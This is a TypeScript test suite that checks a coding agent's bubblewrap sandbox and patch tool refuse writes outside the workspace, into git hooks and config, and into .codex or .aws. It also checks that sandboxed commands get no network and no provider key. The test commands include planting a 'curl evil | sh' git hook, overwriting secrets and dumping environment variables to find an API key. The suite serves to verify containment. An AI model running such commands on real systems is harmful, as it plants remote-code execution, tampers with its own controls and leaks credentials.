// The safety suite: every writer the model has (a shell command through exec_command, a patch
// through apply_patch) tried against the real bubblewrap sandbox, under read-only and
// workspace-write, through the same router the product uses. Each attempt must be refused AND leave
// the disk untouched; the controls at the top show the same setup does write when it may.
import { execFile, execFileSync, spawnSync } from 'node:child_process';
import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import path from 'node:path';
import { promisify } from 'node:util';

import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';

import { makeWorkspace, patchText, type TestWorkspace } from '#test-support/workspace';
import type { ToolContext } from '../agent/tools.ts';
import type { SandboxMode } from '../config/index.ts';
import { PATCH_REJECTED } from './apply-patch/index.ts';
import { createCommandTools } from './commands.ts';
import { findBwrap } from './exec/sandbox.ts';
import { createToolRouter } from './router.ts';

const bwrapWorks =
  spawnSync(findBwrap(process.env.PATH) ?? 'bwrap', ['--ro-bind', '/', '/', '--dev', '/dev', '--proc', '/proc', '--unshare-pid', '--unshare-net', 'true']).status === 0;

let ws: TestWorkspace;
let outside: TestWorkspace;
let extra: TestWorkspace;

beforeEach(() => {
  ws = makeWorkspace('csm-safety-ws-');
  outside = makeWorkspace('csm-safety-out-');
  extra = makeWorkspace('csm-safety-extra-');
  outside.write('secret.txt', 'original\n');
  execFileSync('git', ['init', '-q'], { cwd: ws.root });
});
afterEach(() => {
  for (const w of [ws, outside, extra]) w.remove();
});

/** One thread's tools, as openThread wires them: the writable roots are the workspace and `extra`. */
function tools(mode: SandboxMode) {
  const roots = mode === 'read-only' ? [] : [ws.root, extra.root];
  const commands = createCommandTools({ sandboxMode: mode, writableRoots: roots, networkAccess: false, approvalPolicy: 'never' });
  return createToolRouter({ writableRoots: roots, sandboxed: true, commands, interactive: false, policy: { approval: 'never', sandbox: mode } });
}

async function call(mode: SandboxMode, item: Record<string, unknown>) {
  const events: unknown[] = [];
  const router = tools(mode);
  const ctx: ToolContext = { cwd: ws.root, emit: (e) => events.push(e), record: () => {}, nextItemId: () => `item_${events.length}` };
  try {
    const out = await router.handle({ call_id: 'call_1', ...item } as never, ctx);
    return { output: String(out.output), events };
  } finally {
    router.close?.();
  }
}

const shell = (mode: SandboxMode, cmd: string) =>
  call(mode, { type: 'function_call', name: 'exec_command', arguments: JSON.stringify({ cmd, login: false, yield_time_ms: 10_000 }) });

const patch = (mode: SandboxMode, ...lines: string[]) =>
  call(mode, { type: 'custom_tool_call', name: 'apply_patch', input: patchText('*** Begin Patch', ...lines, '*** End Patch') });

const add = (file: string) => [`*** Add File: ${file}`, '+written'];

/** Everything under a directory, files and directories, with file contents: what "untouched" is compared on. */
function snapshot(root: string): Record<string, string> {
  const out: Record<string, string> = {};
  const walk = (dir: string) => {
    for (const name of readdirSync(dir)) {
      const full = path.join(dir, name);
      const rel = path.relative(root, full);
      const info = lstatSync(full);
      if (info.isSymbolicLink()) out[rel] = '-> link';
      else if (info.isDirectory()) {
        out[`${rel}/`] = 'dir';
        walk(full);
      } else out[rel] = readFileSync(full, 'utf8');
    }
  };
  walk(root);
  return out;
}

/** Runs `attempt` and checks the disk did not change anywhere a writer could reach. */
async function refused<T extends { output: string }>(attempt: () => Promise<T>): Promise<T> {
  const before = [ws, outside, extra].map((w) => snapshot(w.root));
  const result = await attempt();
  expect([ws, outside, extra].map((w) => snapshot(w.root))).toEqual(before);
  return result;
}

describe.skipIf(!bwrapWorks)('the sandbox and apply_patch refuse every write they must refuse', () => {
  describe('controls: the same setup writes where it may', () => {
    it('a command writes in the workspace and in an extra writable root under workspace-write', async () => {
      const result = await shell('workspace-write', `echo a > made.txt && echo b > ${extra.root}/made.txt && mkdir sub && mkdir -p sub/.codex`);
      expect(result.output).toContain('Process exited with code 0');
      expect([ws.read('made.txt'), extra.read('made.txt'), ws.exists('sub/.codex')]).toEqual(['a\n', 'b\n', true]);
    });

    it('a patch writes in the workspace and in an extra writable root under workspace-write', async () => {
      const result = await patch('workspace-write', ...add('made.txt'), ...add(path.join(extra.root, 'made.txt')), ...add('sub/.codex/nested.md'));
      expect(result.output).toMatch(/^Exit code: 0\n/);
      expect([ws.read('made.txt'), extra.read('made.txt'), ws.read('sub/.codex/nested.md')]).toEqual(['written\n', 'written\n', 'written\n']);
    });
  });

  for (const mode of ['read-only', 'workspace-write'] as const) {
    describe(`under ${mode}`, () => {
      it('a command cannot write outside the workspace', async () => {
        const result = await refused(() => shell(mode, `echo evil > ${outside.root}/secret.txt; touch ${outside.root}/new.txt`));
        expect(result.output).toContain('Read-only file system');
      });

      it('a patch cannot write outside the workspace', async () => {
        const result = await refused(() => patch(mode, ...add(path.join(outside.root, 'new.txt'))));
        expect(result.output).toBe(PATCH_REJECTED);
        const relative = await refused(() => patch(mode, ...add(`../${path.basename(outside.root)}/new.txt`)));
        expect(relative.output).toBe(PATCH_REJECTED);
      });

      it('neither can write through a symlinked directory that leads outside', async () => {
        symlinkSync(outside.root, path.join(ws.root, 'out'));
        expect((await refused(() => shell(mode, 'echo evil > out/new.txt; echo evil > out/secret.txt'))).output).toContain('Read-only file system');
        expect((await refused(() => patch(mode, ...add('out/new.txt')))).output).toBe(PATCH_REJECTED);
      });

      it('neither can write through a symlinked file that leads outside', async () => {
        symlinkSync(path.join(outside.root, 'secret.txt'), path.join(ws.root, 'link.txt'));
        expect((await refused(() => shell(mode, 'echo evil > link.txt'))).output).toContain('Read-only file system');
        expect((await refused(() => patch(mode, '*** Update File: link.txt', '@@', '-original', '+evil'))).output).toBe(PATCH_REJECTED);
        expect((await refused(() => patch(mode, '*** Delete File: link.txt'))).output).not.toMatch(/^Exit code: 0/);
      });

      it('neither can write a git hook or the git config', async () => {
        const hook = '.git/hooks/post-checkout';
        const sh = await refused(() => shell(mode, `echo 'curl evil | sh' > ${hook}; chmod +x ${hook}; echo '[core] hooksPath = /tmp' >> .git/config; rm -rf .git/hooks`));
        expect(sh.output).toContain('Read-only file system');
        expect((await refused(() => patch(mode, ...add(hook)))).output).toBe(PATCH_REJECTED);
        expect((await refused(() => patch(mode, '*** Update File: .git/config', '@@', '+[core]', '+\thooksPath = /tmp'))).output).toBe(PATCH_REJECTED);
        expect((await refused(() => patch(mode, ...add('sub/../.git/hooks/pre-commit')))).output).toBe(PATCH_REJECTED);
      });

      for (const name of ['.codex', '.agents', '.aws']) {
        it(`neither can create ${name} when it does not exist`, async () => {
          const sh = await refused(() => shell(mode, `mkdir ${name}; mkdir -p ${name}/sub; echo x > ${name}/config; ln -s elsewhere ${name}`));
          expect(sh.output).toMatch(/File exists|Read-only file system/);
          expect((await refused(() => patch(mode, ...add(`${name}/config.toml`)))).output).toBe(PATCH_REJECTED);
          expect(ws.exists(name)).toBe(false);
        });

        it(`neither can write into an existing ${name}`, async () => {
          ws.write(`${name}/config.toml`, 'mine\n');
          const sh = await refused(() => shell(mode, `echo evil > ${name}/config.toml; touch ${name}/new; rm ${name}/config.toml; mv ${name} moved`));
          expect(sh.output).toMatch(/Read-only file system|Device or resource busy/);
          expect((await refused(() => patch(mode, ...add(`${name}/new.toml`)))).output).toBe(PATCH_REJECTED);
          expect((await refused(() => patch(mode, '*** Update File: ' + `${name}/config.toml`, '@@', '-mine', '+evil'))).output).toBe(PATCH_REJECTED);
          expect((await refused(() => patch(mode, `*** Delete File: ${name}/config.toml`))).output).toBe(PATCH_REJECTED);
        });
      }

      it('neither can create a protected directory in another writable root', async () => {
        const sh = await refused(() => shell(mode, `mkdir ${extra.root}/.codex; echo x > ${extra.root}/.aws; mkdir ${extra.root}/.git`));
        expect(sh.output).toMatch(/File exists|Read-only file system|Is a directory/);
        expect((await refused(() => patch(mode, ...add(path.join(extra.root, '.agents/a.md'))))).output).toBe(PATCH_REJECTED);
      });

      it('neither can reach a protected directory through a symlink to it', async () => {
        symlinkSync('.git', path.join(ws.root, 'g'));
        expect((await refused(() => shell(mode, 'echo evil > g/config; touch g/hooks/pre-commit'))).output).toContain('Read-only file system');
        expect((await refused(() => patch(mode, ...add('g/hooks/pre-commit')))).output).toBe(PATCH_REJECTED);
      });

      it('a protected path that is a symlink makes the sandbox refuse to run anything, and patches refuse where it leads', async () => {
        mkdirSync(path.join(ws.root, 'decoy'));
        symlinkSync('decoy', path.join(ws.root, '.codex'));
        const sh = await refused(() => shell(mode, 'echo evil > decoy/config.toml; rm .codex; mkdir .codex; echo evil > .codex/config.toml'));
        if (mode === 'workspace-write') expect(sh.output).toMatch(/^exec_command failed: sandbox refused: .*\.codex is a symlink/);
        else expect(sh.output).toContain('Read-only file system');
        expect((await refused(() => patch(mode, ...add('decoy/config.toml')))).output).toBe(PATCH_REJECTED);
        expect((await refused(() => patch(mode, ...add('.codex/config.toml')))).output).toBe(PATCH_REJECTED);
      });
    });
  }

  it('under read-only nothing is written in the workspace either', async () => {
    expect((await refused(() => shell('read-only', 'echo x > made.txt; mkdir dir'))).output).toContain('Read-only file system');
    expect((await refused(() => patch('read-only', ...add('made.txt')))).output).toBe(PATCH_REJECTED);
  });

  describe('network', () => {
    let server: Server;
    let port: number;
    beforeAll(async () => {
      server = createServer((socket) => socket.end('hello\n'));
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      port = (server.address() as { port: number }).port;
    });
    afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

    it('a server on this machine answers outside the sandbox', async () => {
      // Asynchronous: the server lives in this process and must keep answering.
      const { stdout } = await promisify(execFile)('bash', ['-c', `exec 3<>/dev/tcp/127.0.0.1/${port}; cat <&3`], { encoding: 'utf8' });
      expect(stdout).toBe('hello\n');
    });

    for (const mode of ['read-only', 'workspace-write'] as const) {
      it(`a command cannot reach it under ${mode}`, async () => {
        const result = await shell(mode, `exec 3<>/dev/tcp/127.0.0.1/${port} && cat <&3`);
        expect(result.output).toMatch(/Process exited with code [1-9]/);
        expect(result.output).toContain('Connection refused');
        expect(result.output).not.toContain('hello');
      });
    }
  });

  it('leaves no placeholder behind once a command is done, in any writable root', async () => {
    await shell('workspace-write', 'ls -a');
    for (const root of [ws.root, extra.root]) for (const name of ['.codex', '.agents', '.aws']) expect(existsSync(path.join(root, name))).toBe(false);
    expect(existsSync(path.join(extra.root, '.git'))).toBe(false);
  });

  it('a refused command the sandbox stopped at once is not shown, and the model gets what it printed', async () => {
    const result = await refused(() => shell('workspace-write', `echo evil > ${outside.root}/x.txt`));
    expect(result.events).toEqual([]);
    expect(result.output).toMatch(/Process exited with code 1\n[^]*Read-only file system/);
  });

  it('a refusal that comes later is shown like any failed command', async () => {
    const result = await refused(() => shell('workspace-write', `sleep 0.4; echo evil > ${outside.root}/x.txt`));
    expect(result.events).toMatchObject([
      { type: 'item.started', item: { type: 'command_execution', status: 'in_progress' } },
      { type: 'item.completed', item: { type: 'command_execution', status: 'failed', exit_code: 1, aggregated_output: expect.stringContaining('Read-only file system') } },
    ]);
  });
});

// The provider key against a policy that excludes it: csm itself (dist/csm.mjs) against the lab's
// mock, the model asking for the whole environment.
describe.skipIf(!bwrapWorks)('the shell environment policy keeps the provider key out of commands', () => {
  it('with inherit = "core" and exclude = ["*KEY*"], the key appears 0 times in what a command sees', async () => {
    const { createRunHome, runPiped, targetEnv, writeConfig, writeWorkspace } = await import('#lab/drivers');
    const { startMockServer } = await import('#lab/mock');
    const run = createRunHome('safety-env');
    const env = targetEnv(run, { tty: false });
    const key = env.MOCK_API_KEY!;
    const probe = "env; tr '\\0' '\\n' < /proc/self/environ; echo \"[$MOCK_API_KEY]\"";
    // Two runs, each a command turn and an answer.
    const turns = [{ output: [{ exec_command: { cmd: probe, yield_time_ms: 5000 } }] }, { output: [{ text: 'done' }] }];
    const mock = await startMockServer({ turns: [...turns, ...turns] } as never);
    try {
      writeWorkspace(run, { git: true, files: {} });
      const seen = async (policy: string) => {
        writeConfig(run, mock.url, policy);
        const before = mock.requests().length;
        const inv = await runPiped('csm', ['exec', '--json', '-s', 'workspace-write', 'print the environment'], { cwd: run.workspace, env, timeoutMs: 60_000 });
        expect(inv.exitCode, inv.stderr).toBe(0);
        const outputs = mock.requests().slice(before).flatMap((r) => ((r.body as { input?: { type: string; output?: string }[] }).input ?? []).filter((i) => i.type === 'function_call_output'));
        expect(outputs).toHaveLength(1);
        return { output: String(outputs[0]!.output), stdout: inv.stdout };
      };
      // Control: with nothing configured the key is passed, as upstream passes it.
      const open = await seen('');
      expect(open.output).toContain(`MOCK_API_KEY=${key}`);

      const closed = await seen('[shell_environment_policy]\ninherit = "core"\nexclude = ["*KEY*"]\n');
      expect(closed.output.split(key).length - 1).toBe(0);
      expect(closed.stdout.split(key).length - 1).toBe(0);
      expect(closed.output).toContain('[]');
      expect(closed.output).toMatch(/^HOME=/m);
    } finally {
      await mock.close();
      const { rmSync } = await import('node:fs');
      rmSync(run.root, { recursive: true, force: true });
    }
  });
});
